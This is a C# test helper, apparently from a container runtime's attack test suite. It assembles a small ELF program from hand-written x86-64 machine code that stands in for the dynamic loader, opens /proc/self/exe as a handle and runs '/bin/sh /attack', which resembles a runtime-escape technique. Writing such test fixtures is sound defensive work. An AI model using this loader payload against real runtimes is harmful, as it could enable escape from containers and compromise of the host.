namespace Davit.Runtime.Tests.Attacks;

/// <summary>
/// A program that takes the place of the dynamic loader: whoever executes a dynamically linked file runs it, with that file as /proc/self/exe. It opens that as
/// a handle (descriptor 3 where all others are closed) and executes <c>/bin/sh /attack</c>.
/// </summary>
internal static class LoaderProgram
{
    /// <summary>The ELF file.</summary>
    internal static byte[] Bytes() => ElfProgram.Of(
        [

            // lea rdi, exe; mov esi, O_PATH; xor edx, edx; mov eax, open; syscall
            0x48, 0x8d, 0x3d, 0, 0, 0, 0, 0xbe, 0, 0, 0x20, 0, 0x31, 0xd2, 0xb8, 2, 0, 0, 0, 0x0f, 0x05,

            // xor edx, edx; push rdx; lea rax, script; push rax; lea rdi, shell; push rdi; mov rsi, rsp; mov eax, execve; syscall
            0x31, 0xd2, 0x52, 0x48, 0x8d, 0x05, 0, 0, 0, 0, 0x50, 0x48, 0x8d, 0x3d, 0, 0, 0, 0, 0x57, 0x48, 0x89, 0xe6, 0xb8, 59, 0, 0, 0, 0x0f, 0x05,

            // mov edi, 9; mov eax, exit; syscall
            0xbf, 9, 0, 0, 0, 0xb8, 60, 0, 0, 0, 0x0f, 0x05,
        ],
        ["/proc/self/exe", "/attack", "/bin/sh"],
        [3, 27, 35]);
}
